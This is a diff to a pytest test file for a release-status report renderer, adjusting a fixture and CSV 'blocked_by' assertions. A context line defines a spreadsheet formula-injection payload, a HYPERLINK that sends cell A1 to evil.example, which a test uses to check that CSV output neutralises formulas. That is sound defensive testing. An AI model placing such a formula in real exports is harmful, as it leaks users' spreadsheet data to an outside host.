@@ -11,7 +11,7 @@ import jsonschema
 import pytest
 from lxml import html as lxml_html
 
-from status_workspace import EGYPT, IRAQ_TRAINING, fill
+from status_workspace import EGYPT, IRAQ_TRAINING, TRANSLATIONS, fill
 
 from presslate.report.options import GROUPINGS, RenderOptions
 from presslate.report.renderers import RENDERERS, render_status
@@ -24,6 +24,9 @@ FORMULA_TITLE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 
 @pytest.fixture
 def report_data(translated_workspace, qa_errors):
+    """The French Iraq training release complete too, with one QA error; the Egypt one complete and clean."""
+    fill(translated_workspace, "fr", IRAQ_TRAINING, translated=TRANSLATIONS["translated"]["fr"][IRAQ_TRAINING],
+         complete=True)
     qa_errors({("fr", IRAQ_TRAINING): 1})
     return build_status(translated_workspace, use_cache=False, with_history=False).to_dict()
 
@@ -74,7 +77,8 @@ def test_csv_release_rows_say_what_blocks_each_release(report_data):
     assert len(rows) == 36
     by_key = {(row["release"], row["language"]): row for row in rows}
     assert by_key[(EGYPT, "fr")]["ready"] == "yes" and by_key[(EGYPT, "fr")]["blocked_by"] == ""
-    assert by_key[(IRAQ_TRAINING, "fr")]["blocked_by"].endswith("1 QA error")
+    assert by_key[(IRAQ_TRAINING, "fr")]["blocked_by"] == "1 QA error"
+    assert by_key[(IRAQ_TRAINING, "ko")]["blocked_by"] == "11 untranslated, 2 drafts"
 
 
 def test_csv_neutralises_a_formula_in_a_title():
